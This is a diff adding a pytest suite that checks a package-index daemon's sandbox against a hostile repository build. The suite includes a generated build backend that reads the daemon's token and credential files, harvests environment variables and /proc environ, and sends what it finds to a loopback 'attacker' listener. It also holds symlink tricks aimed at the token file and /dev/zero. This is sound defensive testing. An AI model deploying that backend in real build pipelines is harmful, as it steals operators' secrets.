@@ -1,0 +1,306 @@
+"""A watched repository's build is someone else's code: what a hostile one tries, and that it fails.
+
+The build hook below does what a compromised repository would: it reaches for the control socket,
+the daemon's token files, its GitHub token and credentials, its environment (directly and through
+/proc), writes outside its scratch directory, prints its index credential into its log, and sends
+all it found to a listener of the test's (the build keeps the network: its build dependencies come
+through the index). Then the test uses whatever arrived, as the attacker would.
+
+The same build with `[watcher] sandbox = "none"` shows the probes are real: there, the operator
+has accepted the risk, and the hook gets the daemon's secrets.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from tests.support import Daemon, git_project, make_wheel, tag_release, wheel_filename
+from tests.test_watcher import ctl, wheelhouse
+
+__all__ = ["wheelhouse"]
+
+HOSTILE_BUILD = """\
+[build-system]
+requires = ["hatchling"]
+build-backend = "backend"
+backend-path = ["."]
+
+[project]
+name = "hostile"
+version = "0.0.0"
+"""
+
+AWS_SECRET = "aws-secret-of-the-daemon-0123456789"
+GITHUB_TOKEN = "ghp_github-token-of-the-daemon-0123456789"
+WEBHOOK_SECRET = "webhook-secret-of-the-daemon-0123456789"
+
+
+def hostile_backend(targets: dict[str, str], control: Path, outside: Path, exfil: int) -> str:
+    """A build backend that takes what it can and sends it to 127.0.0.1:`exfil`."""
+    return f"""\
+import glob, json, os, socket
+from hatchling.build import *  # noqa: F403
+
+found = {{}}
+try:
+    probe = socket.socket(socket.AF_UNIX)
+    probe.connect({str(control)!r})
+    found["control"] = "connected"
+except OSError as error:
+    found["control"] = f"refused: {{error}}"
+for name, path in {targets!r}.items():
+    try:
+        found[name] = open(path).read()
+    except OSError as error:
+        found[name] = f"hidden: {{error.strerror}}"
+found["environ"] = dict(os.environ)
+found["proc_environ"] = []
+for path in glob.glob("/proc/[0-9]*/environ"):
+    try:
+        if {AWS_SECRET.encode()!r} in open(path, "rb").read():
+            found["proc_environ"].append(path)
+    except OSError:
+        pass
+try:
+    open({str(outside)!r}, "w").write("written by a build")
+    found["outside"] = "written"
+except OSError as error:
+    found["outside"] = f"refused: {{error.strerror}}"
+print("HOSTILE", json.dumps(found), flush=True)
+with socket.create_connection(("127.0.0.1", {exfil})) as sink:
+    sink.sendall(json.dumps(found).encode())
+"""
+
+
+@pytest.fixture
+def sink() -> Iterator[tuple[int, list[bytes]]]:
+    """A listener on loopback that keeps whatever is sent to it (the attacker's server)."""
+    server = socket.create_server(("127.0.0.1", 0))
+    received: list[bytes] = []
+
+    def serve() -> None:
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            with connection:
+                chunks = []
+                while chunk := connection.recv(65536):
+                    chunks.append(chunk)
+                received.append(b"".join(chunks))
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], received
+    server.close()
+    thread.join(5)
+
+
+def hostile_run(
+    tmp_path: Path, wheelhouse: Daemon, sink: tuple[int, list[bytes]], sandbox: str
+) -> tuple[Daemon, dict[str, object], str]:
+    """Watch the hostile repository in a daemon holding secrets; build it; what the hook found,
+    and its build log."""
+    home = tmp_path / "d"
+    secrets = home / "secrets"
+    secrets.mkdir(parents=True)
+    (secrets / "github-token").write_text(GITHUB_TOKEN)
+    credentials = home / "credentials"
+    credentials.mkdir()
+    (credentials / "webhook-secret").write_text(WEBHOOK_SECRET)
+    config = home / "config" / "insiders" / "config.toml"
+    config.parent.mkdir(parents=True)
+    config.write_text(
+        '[server]\nread-access = "token"\n'
+        f'[watcher]\nenabled = false\nsandbox = "{sandbox}"\n'
+        f'github-token-file = "{secrets / "github-token"}"\n'
+    )
+    agent = tmp_path / "agent.sock"
+    daemon = Daemon(
+        home,
+        ["--upstream", wheelhouse.index],
+        env={
+            "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
+            "SSH_AUTH_SOCK": str(agent),
+            "CREDENTIALS_DIRECTORY": str(credentials),
+        },
+    ).start()
+    data = daemon.data_dir
+    targets = {
+        "upload-token": str(data / "upload-token"),
+        "tokens.json": str(data / "tokens.json"),
+        "github-token": str(secrets / "github-token"),
+        "webhook-secret": str(credentials / "webhook-secret"),
+        "config": str(config),
+    }
+    control = home / "run" / "insiders" / "control.sock"
+    assert control.exists()
+    port, received = sink
+    repo = git_project(tmp_path / "src", "hostile", pyproject=HOSTILE_BUILD)
+    (repo / "backend.py").write_text(hostile_backend(targets, control, data / "planted", port))
+    tag_release(repo, "1.0")
+    ctl(daemon, "repos", "add", f"{repo}:hostile")
+    ctl(daemon, "update", "--wait")
+    assert received, "the hook sent nothing"
+    found = json.loads(received[0])
+    log = (data / "logs" / "hostile" / "1.0.log").read_text()
+    return daemon, found, log
+
+
+def test_a_hostile_build_gets_nothing_of_the_daemon(
+    tmp_path: Path, wheelhouse: Daemon, sink: tuple[int, list[bytes]]
+) -> None:
+    daemon, found, log = hostile_run(tmp_path, wheelhouse, sink, "auto")
+    try:
+        assert log.startswith("insiders: sandbox: bubblewrap: ")
+        assert "insiders: repository: " in log
+        # No control socket: no token made, nothing published through it.
+        assert str(found["control"]).startswith("refused"), found["control"]
+        for name in ("upload-token", "tokens.json", "github-token", "webhook-secret", "config"):
+            assert str(found[name]).startswith("hidden"), (name, found[name])
+        environ = found["environ"]
+        assert isinstance(environ, dict)
+        for variable in ("AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "CREDENTIALS_DIRECTORY"):
+            assert variable not in environ
+        assert not any(name.startswith(("NOTIFY_", "INSIDERS_", "GIT_")) for name in environ)
+        scratch = str(daemon.home / "cache" / "insiders" / "builds")
+        for name in ("HOME", "TMPDIR", "XDG_CACHE_HOME", "PIP_CACHE_DIR"):
+            assert environ[name].startswith(scratch), (name, environ[name])
+        assert found["proc_environ"] == []
+        assert str(found["outside"]).startswith("refused")
+        assert not (daemon.data_dir / "planted").exists()
+
+        # Its one credential: a read token for its build dependencies...
+        credential = re.search(r"__token__:([^@]+)@", environ["PIP_INDEX_URL"])
+        assert credential, environ["PIP_INDEX_URL"]
+        secret = credential.group(1)
+        # ...never stored in its log (the hook printed it there)...
+        assert secret not in log
+        assert "__token__:****@" in log
+        assert not re.search(r"insiders-[A-Za-z0-9_-]{20,}", log)
+        # ...that could never upload, and is revoked now that the build is over.
+        with httpx.Client(base_url=daemon.url, timeout=30) as client:
+            assert client.get("/simple/", auth=("__token__", daemon.token)).status_code == 200
+            assert client.get("/simple/", auth=("__token__", secret)).status_code == 401
+        victim = tmp_path / wheel_filename("victim", "6.6.6")
+        victim.write_bytes(make_wheel("victim", "6.6.6"))
+        assert daemon.upload(victim, token=secret).status_code == 403
+        assert daemon.upload(victim, token="__token__").status_code == 403
+        tokens = json.loads(ctl(daemon, "tokens", "list", "--json").stdout)["tokens"]
+        assert [t["name"] for t in tokens] == ["default"]
+        # What a build is for still works: the hostile project itself is published.
+        assert "hostile" in ctl(daemon, "projects", "list").stdout
+    finally:
+        daemon.stop()
+
+
+def test_without_a_sandbox_the_same_build_takes_the_daemons_secrets(
+    tmp_path: Path, wheelhouse: Daemon, sink: tuple[int, list[bytes]]
+) -> None:
+    """The probes are real: `sandbox = "none"` is the operator accepting exactly this. Even so,
+    the environment is an allow-list and the log is redacted."""
+    daemon, found, log = hostile_run(tmp_path, wheelhouse, sink, "none")
+    try:
+        assert 'insiders: sandbox: none ([watcher] sandbox = "none")' in log
+        assert found["control"] == "connected"
+        assert found["upload-token"] == (daemon.data_dir / "upload-token").read_text()
+        assert found["github-token"] == GITHUB_TOKEN
+        environ = found["environ"]
+        assert isinstance(environ, dict)
+        assert "AWS_SECRET_ACCESS_KEY" not in environ
+        assert found["proc_environ"], "the daemon's /proc/PID/environ was not readable"
+        assert daemon.token not in log
+        assert str(found["outside"]).startswith("refused")  # Landlock still confines writes
+    finally:
+        daemon.stop()
+
+
+def test_builds_are_refused_where_no_sandbox_can_be_made(
+    tmp_path: Path, wheelhouse: Daemon
+) -> None:
+    """No bwrap on PATH: the repository's code does not run, and every place says why."""
+    home = tmp_path / "d"
+    config = home / "config" / "insiders" / "config.toml"
+    config.parent.mkdir(parents=True)
+    config.write_text("[watcher]\nenabled = false\n")
+    # A PATH with git and nice but no bwrap.
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    for tool in ("git", "nice", "sh"):
+        os.symlink(f"/usr/bin/{tool}", bin_dir / tool)
+    daemon = Daemon(home, ["--upstream", wheelhouse.index], env={"PATH": str(bin_dir)}).start()
+    try:
+        planted = tmp_path / "ran"
+        pyproject = HOSTILE_BUILD.replace("hostile", "refused")
+        repo = git_project(tmp_path / "src", "refused", pyproject=pyproject)
+        (repo / "backend.py").write_text(f"open({str(planted)!r}, 'w').write('ran')\n")
+        tag_release(repo, "1.0")
+        ctl(daemon, "repos", "add", f"{repo}:refused")
+        result = ctl(daemon, "update", "--wait", check=False)
+        assert result.returncode == 1
+        assert "bubblewrap cannot make one here: bwrap is not installed" in result.stdout
+        assert 'sandbox = "none"' in result.stdout
+        assert not planted.exists()
+        assert "builds in refused: " in ctl(daemon, "status").stdout
+        assert "builds run in: refused: " in ctl(daemon, "repos", "list").stdout
+        assert "bwrap is not installed" in daemon.log()
+    finally:
+        daemon.stop()
+
+
+SYMLINKED_BUILD = """\
+import os
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+get_requires_for_build_sdist = get_requires_for_build_wheel
+
+def build_sdist(directory, config_settings=None):
+    name = "linked-1.0.tar.gz"
+    os.symlink("/dev/zero", os.path.join(directory, name))
+    return name
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    name = "linked-1.0-py3-none-any.whl"
+    os.symlink({target!r}, os.path.join(directory, name))
+    return name
+"""
+
+
+def test_what_a_build_makes_is_read_only_if_it_is_a_plain_file(
+    tmp_path: Path, wheelhouse: Daemon
+) -> None:
+    """The daemon reads a build's files outside the sandbox: a symbolic link made by the build
+    would point at the daemon's own files there (its token file), or at /dev/zero (a hash that
+    never ends)."""
+    home = tmp_path / "d"
+    config = home / "config" / "insiders" / "config.toml"
+    config.parent.mkdir(parents=True)
+    config.write_text("[watcher]\nenabled = false\n")
+    daemon = Daemon(home, ["--upstream", wheelhouse.index]).start()
+    try:
+        pyproject = HOSTILE_BUILD.replace("hostile", "linked").replace(
+            'requires = ["hatchling"]', "requires = []"
+        )
+        repo = git_project(tmp_path / "src", "linked", pyproject=pyproject)
+        target = str(daemon.data_dir / "upload-token")
+        (repo / "backend.py").write_text(SYMLINKED_BUILD.format(target=target))
+        tag_release(repo, "1.0")
+        ctl(daemon, "repos", "add", f"{repo}:linked")
+        result = ctl(daemon, "update", "--wait", check=False)
+        assert result.returncode == 1, result.stdout
+        assert "which is not a plain file" in result.stdout
+        assert "linked" not in ctl(daemon, "projects", "list").stdout
+    finally:
+        daemon.stop()
